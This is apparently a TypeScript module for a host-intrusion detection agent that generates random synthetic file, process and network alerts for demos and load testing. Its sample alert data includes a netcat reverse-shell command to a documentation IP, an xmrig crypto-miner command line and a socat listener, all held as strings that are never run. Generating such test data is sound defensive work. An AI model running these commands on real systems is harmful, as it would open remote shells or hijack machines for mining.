// `tripwire-agent demo`: realistic synthetic alerts through the real SDK, for demos and load tests.
import { randomInt } from 'node:crypto';
import type { AgentClient, AlertDraft } from '@tripwire/agent-sdk';
import type { Logger } from '@tripwire/logger';

const pick = <T>(items: readonly T[]): T => items[randomInt(items.length)]!;
const hex = (bytes: number) =>
  Array.from({ length: bytes }, () => randomInt(256).toString(16).padStart(2, '0')).join('');

const FILES = [
  ['etc-passwd', '/etc/passwd', 'CRITICAL'],
  ['sshd-config', '/etc/ssh/sshd_config', 'WARN'],
  ['cron', '/etc/cron.d/backup', 'WARN'],
  ['web-root', '/var/www/html/index.php', 'WARN'],
  ['tmp-scripts', '/tmp/.x/run.sh', 'INFO'],
] as const;
const PROCESSES = [
  ['reverse-shell-tools', 'nc -e /bin/sh 203.0.113.7 4444', '/usr/bin/nc.openbsd', 'CRITICAL'],
  [
    'crypto-miner',
    './xmrig --donate-level 1 -o pool.example:3333',
    '/tmp/.cache/xmrig',
    'CRITICAL',
  ],
  ['package-manager', 'apt-get install -y curl', '/usr/bin/apt-get', 'INFO'],
  ['shell-from-web', 'sh -c id', '/usr/bin/dash', 'WARN'],
] as const;
const PORTS = [4444, 1337, 31337, 8081, 9001];

/** One plausible alert of each kind, at random. */
export function demoAlert(): AlertDraft {
  const kind = randomInt(3);
  if (kind === 0) {
    const [ruleName, path, severity] = pick(FILES);
    return {
      tripwireType: 'FILE',
      severity,
      ruleName,
      detail: {
        path,
        change: pick(['modified', 'modified', 'created', 'mode_changed']),
        old_sha256: hex(32),
        new_sha256: hex(32),
        old_mode: '0644',
        new_mode: pick(['0644', '0755', '4755']),
        uid: 0,
        size: randomInt(100, 20_000),
      },
    };
  }
  if (kind === 1) {
    const [ruleName, cmdline, exe, severity] = pick(PROCESSES);
    return {
      tripwireType: 'PROCESS',
      severity,
      ruleName,
      detail: {
        pid: randomInt(1000, 60_000),
        ppid: randomInt(1, 1000),
        cmdline,
        exe,
        user: pick(['www-data', 'root', 'deploy']),
      },
    };
  }
  const port = pick(PORTS);
  return {
    tripwireType: 'NETWORK',
    severity: port === 8081 ? 'INFO' : 'WARN',
    ruleName: 'new-listener',
    detail: {
      kind: 'listen',
      protocol: 'tcp',
      local_address: '0.0.0.0',
      local_port: port,
      remote_address: '0.0.0.0',
      remote_port: 0,
      inode: randomInt(10_000, 9_000_000),
      pid: randomInt(1000, 60_000),
      process: pick(['python3 -m http.server', 'socat TCP-LISTEN:4444 -', 'node server.js']),
    },
  };
}

/** Queues `rate` alerts a second: rate × durationS in all, or until stop() when durationS is 0. */
export function runDemo(client: AgentClient, log: Logger, rate: number, durationS: number) {
  const total = durationS > 0 ? Math.round(rate * durationS) : Number.POSITIVE_INFINITY;
  const started = Date.now();
  let sent = 0;
  let stopped = false;
  const done = new Promise<number>((resolve) => {
    const tick = () => {
      if (stopped || sent >= total) {
        resolve(sent);
        return;
      }
      const due = Math.min(total, Math.floor(((Date.now() - started) / 1000) * rate));
      const batch: Promise<string>[] = [];
      while (sent < due) {
        batch.push(client.enqueue(demoAlert()));
        sent++;
      }
      Promise.all(batch).then(
        () => setTimeout(tick, 10),
        (err: unknown) => {
          log.error({ err }, 'could not queue demo alerts');
          setTimeout(tick, 1000);
        },
      );
    };
    tick();
  });
  const progress = setInterval(
    () => log.info({ generated: sent, ...client.stats() }, 'demo'),
    5_000,
  );
  progress.unref();
  return {
    done: done.finally(() => clearInterval(progress)),
    stop() {
      stopped = true;
    },
  };
}
